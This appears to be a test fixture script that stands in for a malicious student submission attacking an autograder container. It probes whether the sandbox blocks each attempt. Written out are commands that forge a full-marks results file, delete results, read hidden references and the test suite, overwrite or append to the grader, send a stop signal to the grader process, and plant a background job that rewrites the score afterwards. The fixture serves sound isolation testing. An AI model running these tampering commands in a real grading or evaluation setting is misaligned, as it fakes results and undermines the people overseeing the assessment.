# A student who attacks Gradescope's container (tests/gradescope.rs), where
# its program and the grader share one machine: during its build (`sh
# attack.sh build`) and on every scene (`sh attack.sh SCENE OUT`) it tries
# to give itself full marks, read the references and the suite, change the
# grader and stop it, then renders the scene honestly with tracer.py (the
# judge class's correct_centres_py, copied in by the test). Each attempt
# prints `refused: WHAT` or `gained: WHAT` on stderr, which results.json
# shows for each scene.
try() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1; then
        echo "gained: $what" >&2
    else
        echo "refused: $what" >&2
    fi
}
fake='{"score": 1000, "output": "full marks", "tests": []}'
try "write results.json" sh -c "echo '$fake' > /autograder/results/results.json"
try "replace results.json" sh -c "echo '$fake' > /autograder/results/x && mv /autograder/results/x /autograder/results/results.json"
try "remove the results folder" rm -rf /autograder/results
try "read the references" sh -c 'cat /autograder/source/cache/* | head -c 1 | grep -q .'
try "list the references" sh -c 'ls /autograder/source/cache | grep -q .'
try "read the suite" sh -c 'cat /autograder/source/suite/*.txt | grep -q .'
try "read the suite through the grader's root" sh -c 'ls /proc/$PPID/root/autograder/source/suite | grep -q .'
try "change run_autograder" sh -c 'echo "echo hacked" >> /autograder/run_autograder'
try "replace the grader" cp /bin/true /autograder/source/raytracer
try "change the bundle's run_autograder" sh -c 'echo "exit 0" >> /autograder/source/run_autograder'
try "stop the grader" kill -STOP "$PPID"
try "write /tmp" sh -c 'echo x > /tmp/attacker-was-here'
# A daemon that would write full marks after the grader is done.
(setsid sh -c "sleep 3; echo '$fake' > /autograder/results/results.json" >/dev/null 2>&1 &)
if [ "$1" = build ]; then
    exit 0
fi
exec python3 tracer.py "$1" "$2"
